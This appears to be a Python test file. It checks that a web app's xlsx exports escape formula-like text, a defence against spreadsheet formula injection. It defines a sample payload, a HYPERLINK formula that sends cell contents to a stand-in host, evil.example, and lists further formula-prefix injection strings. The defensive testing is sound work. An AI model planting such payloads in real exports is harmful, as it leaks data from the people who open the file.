"""`?format=xlsx` exports never carry a live formula (OWASP "CSV injection"): a text that a
spreadsheet would read as a formula (= + - @ tab CR, and their full-width forms) is written as
text with a leading apostrophe; numbers — and texts that are plain numbers, such as money
"-12.50" — stay as they are."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from miniapp_api.xlsx import rows_to_xlsx
from tests.factories import make_world

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _sheet_xml(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def _values(data: bytes) -> list[list[object]]:
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    return [list(r) for r in ws.iter_rows(values_only=True)]


def test_formula_like_texts_are_written_as_text_numbers_stay_numbers() -> None:
    risky = [EVIL, "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "＝1+1", "＋1", "－1", "＠x"]
    rows = [{"text": t, "n": i} for i, t in enumerate(risky)]
    rows += [
        {"text": "-12.50", "n": -5},
        {"text": "+86 138 0000 0000", "n": Decimal("-3.10")},
        {"text": "1e5", "n": 2.5},
        {"text": "螺纹钢 = 钢筋", "n": None},
    ]
    data = rows_to_xlsx(rows, ["text", "n"])
    assert b"<f>" not in _sheet_xml(data) and b"<f " not in _sheet_xml(data)
    values = _values(data)
    assert values[0] == ["text", "n"]
    got = values[1:]
    for (text, n), want in zip(got[: len(risky)], risky, strict=True):
        # (XML reads a literal CR back as LF: the point is the apostrophe in front)
        assert text == "'" + want.replace("\r", "\n") and isinstance(n, int)
    assert got[len(risky) :] == [
        ["-12.50", -5],  # money text and integers unchanged
        ["'+86 138 0000 0000", -3.1],  # a phone number is not a number: escaped
        ["1e5", 2.5],
        ["螺纹钢 = 钢筋", None],
    ]


async def test_admin_export_of_a_formula_display_name_is_text(client) -> None:
    """The reported case: a display name `=HYPERLINK(...)` in the admin's user export."""
    w = await make_world()
    admin = w.headers("", "admin")
    resp = await client.post(
        "/api/v1/admin/users",
        json={"display_name": EVIL, "role": "sales", "username": "evil-rep", "password": "S3cure-pass-1"},
        headers=admin,
    )
    assert resp.status == 201, await resp.text()
    async with client.get("/api/v1/admin/users", params={"format": "xlsx"}, headers=admin) as resp:
        assert resp.status == 200
        data = await resp.read()
    assert b"<f>" not in _sheet_xml(data)
    values = _values(data)
    col = values[0].index("姓名")
    assert "'" + EVIL in [row[col] for row in values[1:]]
